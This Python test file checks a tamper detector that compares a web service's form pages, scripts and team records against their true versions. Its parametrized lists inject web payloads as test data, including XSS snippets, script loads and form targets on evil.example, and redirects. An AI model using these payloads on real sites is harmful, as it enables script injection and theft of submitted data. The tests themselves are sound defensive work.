"""Looking at the Door as an ordinary visitor, against the real Door's pages and what could be done to them."""

from collections.abc import Iterator
from dataclasses import dataclass, replace
from functools import partial
from typing import Any

import pytest
from litestar import Litestar
from litestar.testing import TestClient

from door.doors import SCRIPTS, TODAY, Clock, make_door
from fakes.a_desk import NEW_TEAM, PASSWORD, ADesk, begun
from fakes.door_link import FakeDoorLink
from fakes.door_store import FakeDoorStore
from fakes.steady import Steady
from recourse.desk.desk import Desk
from recourse.desk.door_link.service import alarm, alarm_seen, look, next_check
from recourse.desk.faults import DoorRefusedError, DoorUnreachableError, NotFilledInError
from recourse.desk.intake.service import pull
from recourse.desk.ledger.model import Act
from recourse.desk.ledger.service import entries
from recourse.desk.session.model import Session
from recourse.desk.session.service import lock, log_in
from recourse.desk.team.service import first_run, renew_record
from recourse.door.places import Places
from recourse.door.untouched import untouched
from recourse.terms.message import message
from recourse.vault.recipient import recipient_of
from recourse.vault.secret import Seed
from recourse.vault.team import read_record

PLAIN = "http://localhost:8702"
LANGUAGES = ("en", "fr", "ar")
STRANGER = str(recipient_of(Seed(bytes(range(32)))))
BUILT = {"door.js": SCRIPTS.door.page.plain, "seal.js": SCRIPTS.seal.page.plain}


@dataclass
class LookedAt(FakeDoorLink):
    """What a visitor gets from the real Door, changed as a test says: `{path: (from, to)}`."""

    client: TestClient[Litestar] | None = None
    swap: tuple[tuple[str, str, str], ...] = ()

    def visit(self, path: str) -> bytes:
        """A page of the real Door."""
        if self.down:
            raise DoorUnreachableError
        assert self.client is not None
        answer = self.client.get(path)
        if answer.status_code != 200:
            raise DoorRefusedError(answer.status_code)
        content: bytes = answer.content
        for at, old, new in self.swap:
            if at == path:
                assert old.encode() in content, f"{old} is not on {path}"
                content = content.replace(old.encode(), new.encode(), 1)
        return content


@dataclass
class RealDoor:
    """The real Door, with its plain process elsewhere."""

    store: FakeDoorStore
    clock: Clock
    client: TestClient[Litestar]

    def show(self, kit: ADesk, record: str | None = None) -> None:
        """Show this record and no other; the Door reads its teams anew every two seconds."""
        text = record or (kit.store.setting("record") or b"").decode()
        self.store.kept_teams.clear()
        self.store.add_team(team=read_record(text).team, record=text, token_hash="0" * 64, day=TODAY)
        self.clock.second += 10


@pytest.fixture(scope="module")
def real() -> Iterator[RealDoor]:
    """The real Door in three languages."""
    store, clock = FakeDoorStore(), Clock()
    with TestClient(make_door(store, clock, places=Places(plain=PLAIN))) as client:
        yield RealDoor(store, clock, client)


@pytest.fixture
def looking(real: RealDoor) -> tuple[ADesk, Session, LookedAt]:
    """A Desk whose team is shown by the real Door."""
    kit, session, _ = begun()
    link = LookedAt(client=real.client)
    kit.door = link
    kit.again()
    kit.desk = replace(kit.desk, bundle=BUILT.__getitem__, door_languages=LANGUAGES, door_origins=(PLAIN,))
    renew_record(kit.desk, session)
    real.show(kit)
    return kit, session, link


def differences(desk: Desk) -> list[tuple[str, str]]:
    """What differs, and where."""
    return [(one.what, one.where) for one in look(desk)]


def test_an_honest_door_differs_in_nothing(looking: tuple[ADesk, Session, LookedAt]) -> None:
    """The real pages in every language, the real scripts, the real record."""
    kit, _, _ = looking
    assert differences(kit.desk) == []
    assert alarm(kit.desk) is None


@pytest.fixture
def exactly(looking: tuple[ADesk, Session, LookedAt]) -> tuple[ADesk, LookedAt]:
    """A Desk that knows every byte of the Door's pages, as the real one does."""
    kit, _, link = looking
    made = partial(untouched, languages=LANGUAGES, scripts=SCRIPTS)
    kit.desk = replace(kit.desk, door_pages=made)
    return kit, link


def test_an_honest_door_is_as_it_was_made_to_the_byte(exactly: tuple[ADesk, LookedAt], real: RealDoor) -> None:
    """In every language; wherever leaving leads to; whichever other teams are there."""
    kit, link = exactly
    assert differences(kit.desk) == []
    for language in LANGUAGES:
        link.swap += tuple(
            (f"/{language}{at}", "https://www.wikipedia.org/", "https://example.org/?a=1&amp;b")
            for at in ("", "/6", "/7")
        )
    assert differences(kit.desk) == []
    other = first_run(ADesk(random=Steady("elsewhere")).desk, NEW_TEAM).record
    real.store.add_team(team=read_record(other).team, record=other, token_hash="1" * 64, day=TODAY)
    real.clock.second += 10
    assert differences(kit.desk) == []


QUIETLY = [
    ("/fr/6", f'action="{PLAIN}/p/fr/6"', 'action="/collect"'),
    ("/fr/6", " data-needs-seal", ""),
    ("/fr/6", 'id="tell" method="post"', 'id="tell" method="get"'),
    ("/fr/6", 'data-reports="/api/reports"', 'data-reports="/api/collect"'),
    ("/fr/6", 'data-reports="/api/reports"', 'data-reports="http:evil.example"'),
    ("/fr/6", f' data-seal-integrity="{SCRIPTS.seal.integrity}"', ""),
    ("/fr/6", f'data-seal-integrity="{SCRIPTS.seal.integrity}"', f'data-seal-integrity="{SCRIPTS.door.integrity}"'),
    ("/fr/6", 'data-seal="/seal.js"', 'data-seal="/other.js"'),
    ("/fr/6", f'<script src="/door.js" integrity="{SCRIPTS.door.integrity}" defer></script>', ""),
    ("/fr/6", 'data-door-id="', 'data-door-id="0'),
    ("/fr/6", "</h1>", "</h1><p>Write to +44 7700 900123 instead.</p>"),
    ("/fr/6", "</h1>", '</h1><p><a href="https://evil.example/form">x</a></p>'),
    ("/fr/6", "<main", '<main style="display:none"'),
    ("/fr/6", "<main", "<main hidden"),
    ("/fr/6", 'href="/s.css"', 'href="/other.css"'),
    ("/fr/6", "<textarea", '<textarea form="other"'),
    ("/fr/6", "</form>", '<input type="hidden" name="team" value="x"></form>'),
    ("/fr/6", "</form>", '<input type="image" src="/x"></form>'),
    ("/fr/6", "<noscript>", '<noscript><form action="/collect"><textarea name="text"></textarea></form>'),
    ("/fr/6", "</h1>", '</h1><template shadowrootmode="open"><form action="/q"></form></template>'),
    ("/fr/6", 'name="once" value="', 'name="once" value="longer'),
    ("/fr/6", '<meta charset="utf-8">', '<meta charset="iso-2022-jp">'),
    ("/fr/7", " data-needs-seal", ""),
    ("/fr/7", 'data-mailbox="/api/mailbox"', 'data-mailbox="/api/collect"'),
    ("/fr", 'href="/fr/6"', 'href="https://evil.example/6"'),
    ("/s.css", "{", "{content:'x';"),
    ("/i.svg", "<svg", '<svg onload="x"'),
]


@pytest.mark.parametrize(("path", "old", "new"), QUIETLY)
def test_whatever_else_is_changed_is_seen_too(exactly: tuple[ADesk, LookedAt], path: str, old: str, new: str) -> None:
    """A sentence, another address of the same Door, a form that is not sealed: one byte is enough."""
    kit, link = exactly
    link.swap = ((path, old, new),)
    assert ("page-element", path) in differences(kit.desk)


def test_a_second_team_of_the_same_name_on_the_page_alone_is_seen(
    exactly: tuple[ADesk, LookedAt], real: RealDoor
) -> None:
    """It stands in no list: the page offers it to whoever looks at the page."""
    kit, link = exactly
    page = real.client.get("/en/6").text
    ours = page[page.index('<label class="pick"><input type="radio" name="team"') :].partition("</label>")[0]
    theirs = ours.replace('value="', 'value="0')
    link.swap = (("/en/6", ours, f"{theirs}</label>{ours}"),)
    assert ("page-element", "/en/6") in differences(kit.desk)


def test_a_team_that_comes_between_two_requests_is_no_difference(
    exactly: tuple[ADesk, LookedAt], real: RealDoor
) -> None:
    """What differs is looked at once more."""
    kit, link = exactly
    other = first_run(ADesk(random=Steady("elsewhere")).desk, NEW_TEAM).record
    asked: list[str] = []

    class Between(LookedAt):
        def visit(self, path: str) -> bytes:
            asked.append(path)
            if asked.count("/api/teams") == 2 and path == "/s.css":
                real.store.add_team(team=read_record(other).team, record=other, token_hash="1" * 64, day=TODAY)
                real.clock.second += 10
            return super().visit(path)

    kit.desk = replace(kit.desk, link=Between(client=link.client))
    assert differences(kit.desk) == []
    assert asked.count("/api/teams") == 3


FORM = '<form id="tell" '
SWAPPED = [
    ("<main", "<script>alert(1)</script><main", "page-script"),
    ("<main", '<script src="https://evil.example/x.js"></script><main', "page-script"),
    ("<main", '<script src="/door.js"></script><main', "page-script"),
    ("<main", '<script src="/api/mailbox" integrity="sha256-x"></script><main', "page-script"),
    ("<main", '<img src="x" onerror="alert(1)"><main', "page-script"),
    ("<main", '<a href="javascript:alert(1)">x</a><main', "page-script"),
    ("<main", '<a href=" java\nscript:alert(1)">x</a><main', "page-script"),
    ("<main", '<svg><a xlink:href="javascript:alert(1)">x</a></svg><main', "page-script"),
    ("<main", "<svg><style>*{}</style></svg><main", "page-element"),
    ("<main", '<iframe srcdoc="x"></iframe><main', "page-script"),
    ("<main", '<base href="https://evil.example/"><main', "page-element"),
    ("<main", '<meta http-equiv="refresh" content="0;url=https://evil.example/"><main', "page-element"),
    ("<main", '<link rel="stylesheet" href="https://evil.example/s.css"><main', "page-element"),
    ("<main", '<link rel="stylesheet" href="//evil.example/s.css"><main', "page-element"),
    ("<main", '<img src="\\evil.example/x"><main', "page-element"),
    ("<main", '<form action="https://evil.example/"></form><main', "page-form"),
    ("<main", '<button formaction="https://evil.example/">x</button><main', "page-form"),
    ("<main", "<!--><script>alert(1)</script>--><main", "page-element"),
    ("<main", "<![CDATA[x]]><main", "page-element"),
    ("<main", "<?php ?><main", "page-element"),
    ("<main", "<p title='x'>y</p><main", "page-element"),
    ("<main", "<p title=x>y</p><main", "page-element"),
    ("<main", "a < b<main", "page-element"),
    ("<main", "\x1b$B<main", "page-element"),
    ("</html>", "</html><p", "page-element"),
    ("<!doctype html>", "<!doctype html SYSTEM 'about:legacy-compat'>", "page-element"),
    (FORM, f'{FORM}action="https://evil.example/" ', "page-element"),
    (f'action="{PLAIN}', 'action="http://localhost:9999', "page-form"),
    ('data-reports="/api/reports"', 'data-reports="https://evil.example/"', "page-form"),
    ('data-reports="/api/reports"', 'data-reports="//evil.example/"', "page-form"),
    (f'data-bundle="{SCRIPTS.seal.hash}"', f'data-bundle="{"0" * 64}"', "page-script"),
    (f'integrity="{SCRIPTS.door.integrity}"', 'integrity="sha256-AAAA"', "page-script"),
    (f'integrity="{SCRIPTS.door.integrity}"', f'integrity="{SCRIPTS.door.integrity} sha256-AAAA"', "page-script"),
    (f'data-seal-integrity="{SCRIPTS.seal.integrity}"', 'data-seal-integrity="sha256-AAAA"', "page-script"),
    ('data-seal="/seal.js"', 'data-seal="https://evil.example/seal.js"', "page-form"),
    ('data-recipients="age1pq1', f'data-recipients="{STRANGER} age1pq1', "recipients"),
    ('name="team"', 'name="tea"', "team-missing"),
]


@pytest.mark.parametrize(("old", "new", "what"), SWAPPED)
def test_whatever_is_swapped_on_the_form_page_is_seen(
    looking: tuple[ADesk, Session, LookedAt], old: str, new: str, what: str
) -> None:
    """In one language only, so that each language has to be looked at; the alarm stays although it is honest again."""
    kit, _, link = looking
    link.swap = (("/ar/6", old, new),)
    found = differences(kit.desk)
    assert (what, "/ar/6") in found
    assert {where for _, where in found} == {"/ar/6"}
    link.swap = ()
    assert differences(kit.desk) == []
    raised = alarm(kit.desk)
    assert raised is not None
    assert (what, "/ar/6") in [(one.what, one.where) for one in raised.differences]


def test_another_key_in_the_list_of_teams_is_seen(looking: tuple[ADesk, Session, LookedAt]) -> None:
    """For programs, which read the list and no page."""
    kit, _, link = looking
    ours = str(read_record((kit.store.setting("record") or b"").decode()).recipients[0])
    link.swap = (("/api/teams", ours, STRANGER),)
    assert differences(kit.desk) == [("recipients", "/api/teams")]
    link.swap = (("/api/teams", "Harbour advice", "Harbour police"),)
    assert differences(kit.desk) == [("record-changed", "/api/teams")]
    raised = alarm(kit.desk)
    assert raised is not None
    assert [one.says for one in raised.differences] == [
        message("desk.service_differs_recipients"),
        message("desk.service_differs_record"),
    ]


def test_a_team_that_is_not_shown_is_seen(looking: tuple[ADesk, Session, LookedAt], real: RealDoor) -> None:
    """Neither in the list nor on the pages."""
    kit, _, _ = looking
    real.show(kit, first_run(ADesk(random=Steady("elsewhere")).desk, NEW_TEAM).record)
    assert differences(kit.desk) == [
        ("record-missing", "/api/teams"),
        ("team-missing", "/en/6"),
        ("team-missing", "/fr/6"),
        ("team-missing", "/ar/6"),
    ]


@pytest.mark.parametrize("path", ["/door.js", "/seal.js"])
def test_another_script_is_seen(looking: tuple[ADesk, Session, LookedAt], path: str) -> None:
    """One byte more is another script, also where the pages name the old hash."""
    kit, _, link = looking
    link.swap = ((path, "//", "///"),)
    assert differences(kit.desk) == [("script-bytes", path)]


def test_a_door_that_is_away_raises_no_alarm(looking: tuple[ADesk, Session, LookedAt]) -> None:
    """Whether it swaps keys cannot be said."""
    kit, _, link = looking
    link.down = True
    with pytest.raises(DoorUnreachableError):
        look(kit.desk)
    assert alarm(kit.desk) is None


def test_a_record_on_its_way_is_no_difference(looking: tuple[ADesk, Session, LookedAt], real: RealDoor) -> None:
    """It was signed anew and the Door could not be reached: it shows the one that it took last."""
    kit, session, link = looking
    link.down = True
    for _ in range(2):
        kit.clock.later(days=1)
        with pytest.raises(DoorUnreachableError):
            renew_record(kit.desk, session, even_if_fresh=True)
    link.down = False
    assert differences(kit.desk) == []
    real.show(kit)
    assert differences(kit.desk) == []


def test_how_often_the_door_was_looked_at_stands_in_the_ledger(looking: tuple[ADesk, Session, LookedAt]) -> None:
    """It is told at the next pull, whoever was there when it was looked at."""
    kit, session, link = looking
    look(kit.desk)
    link.swap = (("/door.js", "//", "///"),)
    look(kit.desk)
    look(kit.desk)
    pull(kit.desk, session)
    pull(kit.desk, session)
    checked = [entry for entry in entries(kit.desk, session) if entry.act is Act.DOOR_CHECKED]
    assert [entry.details for entry in checked] == [{"looked": 3, "differed": 2}]


def test_before_a_door_is_joined_nothing_is_looked_at() -> None:
    """There is nothing to compare."""
    kit, _, _ = begun(joined=False)
    assert look(kit.desk) == ()
    assert look(ADesk().desk) == ()


def test_the_alarm_is_seen_by_a_member_who_says_what_it_was(looking: tuple[ADesk, Session, LookedAt]) -> None:
    """Raised while all are locked, it keeps its first day, goes with a word, and comes again with a difference."""
    kit, session, link = looking
    lock(kit.desk, session)
    link.swap = (("/fr/6", "<main", "<script>x</script><main"),)
    look(kit.desk)
    kit.clock.later(days=2)
    look(kit.desk)
    raised = alarm(kit.desk)
    assert raised is not None
    assert (raised.day, [one.what for one in raised.differences]) == (TODAY, ["page-script"])
    session = log_in(kit.desk, name="Maria", password=PASSWORD)
    with pytest.raises(NotFilledInError) as refused:
        alarm_seen(kit.desk, session, it_was=" ")
    assert (refused.value.path, refused.value.says) == (
        "it_was",
        message("desk.service_say_what_it_was", most=500),
    )
    alarm_seen(kit.desk, session, it_was="The Door was updated first.")
    assert alarm(kit.desk) is None
    entry: Any = entries(kit.desk, session)[0]
    assert (entry.act, entry.details) == (
        Act.ALARM_SEEN,
        {
            "it_was": "The Door was updated first.",
            "since": "2026-11-24",
            "differences": ["page-script /fr/6"],
        },
    )
    look(kit.desk)
    assert alarm(kit.desk) is not None


def test_nobody_knows_when_the_door_is_looked_at() -> None:
    """Between five minutes and an hour, spread over all of it."""
    random = Steady("times")
    waits = [next_check(random, 1000.0) - 1000.0 for _ in range(400)]
    assert all(5 * 60 <= wait < 60 * 60 for wait in waits)
    assert min(waits) < 7 * 60
    assert max(waits) > 58 * 60
    assert len(set(waits)) == 400
    assert next_check(bytes, 0.0) == 300.0
    assert next_check(lambda n: b"\xff" * n, 0.0) < 3600.0
